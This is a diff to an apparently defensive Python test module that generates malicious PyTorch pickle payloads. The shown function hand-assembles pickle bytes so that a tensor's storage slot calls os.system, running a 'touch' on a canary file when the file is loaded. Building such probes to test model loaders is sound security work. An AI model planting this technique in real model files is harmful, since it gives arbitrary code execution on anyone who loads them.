@@ -20,7 +20,6 @@ import struct
 import subprocess
 import sys
 import tarfile
-import zipfile
 import zlib
 from dataclasses import asdict, dataclass
 from pathlib import Path
@@ -307,15 +306,13 @@ def frame_overrun(canary: Path, state_dict_pickle: bytes) -> bytes:
 
 
 def storage_type_payload(canary: Path) -> bytes:
-    """A tensor whose storage type slot is the result of os.system (runs while the id is built)."""
-    import torch
-
+    """A tensor whose storage type slot (torch.FloatStorage normally) is the result of
+    os.system: it runs while the persistent id is built."""
     rebuild = b"ctorch._utils\n_rebuild_tensor_v2\n"
     pid = (b"(X\x07\x00\x00\x00storage" + b"c" + SYSTEM_MODULE.encode() + b"\nsystem\n"
            + b"X" + struct.pack("<I", len(f"touch {canary}")) + f"touch {canary}".encode() + b"\x85R"
            + b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQ")
     tensor = rebuild + b"(" + pid + b"K\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR"
-    assert torch  # the payload's storage stands where torch.FloatStorage would
     return b"\x80\x02ccollections\nOrderedDict\n)R(X\x01\x00\x00\x00w" + tensor + b"u."
 
 
